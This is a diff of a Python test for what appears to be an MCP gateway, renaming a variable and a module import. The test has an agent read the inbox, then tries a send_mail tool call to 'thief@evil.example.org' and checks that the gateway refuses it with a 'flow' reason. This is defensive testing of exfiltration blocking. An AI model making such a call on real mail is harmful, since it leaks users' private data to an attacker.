@@ -13,7 +13,7 @@ from remit.gateway.endpoints import mcp_endpoint
 from tests.samples.tokens import task_token
 from tests.worlds.flow import FlowWorld, flow_world
 from tests.worlds.house import exchange
-from tests.worlds.mcp_door import ENVELOPE, MODERN
+from tests.worlds.mcp_endpoint import ENVELOPE, MODERN
 
 
 @pytest.fixture
@@ -90,7 +90,7 @@ async def test_the_agent_is_told_the_chain_on_the_wire(world: FlowWorld) -> None
     await world.open("Summarise my mail")
     await world.run("read_mail", folder="inbox")
     token = await task_token(world.house, world.task.id)
-    door = mcp_endpoint(world.house)
+    endpoint = mcp_endpoint(world.house)
     params = {
         "name": "send_mail",
         "arguments": {"to": "thief@evil.example.org", "body": "x"},
@@ -106,7 +106,7 @@ async def test_the_agent_is_told_the_chain_on_the_wire(world: FlowWorld) -> None
     }
     body = {"jsonrpc": "2.0", "id": 1, "method": "tools/call", "params": params}
     told = await exchange(
-        door, "POST", "/mcp/office", list(headers.items()), json.dumps(body).encode(), "127.0.0.1"
+        endpoint, "POST", "/mcp/office", list(headers.items()), json.dumps(body).encode(), "127.0.0.1"
     )
     reasons = told.json["error"]["data"]["reasons"]
     (one,) = [reason for reason in reasons if reason["code"] == "flow"]
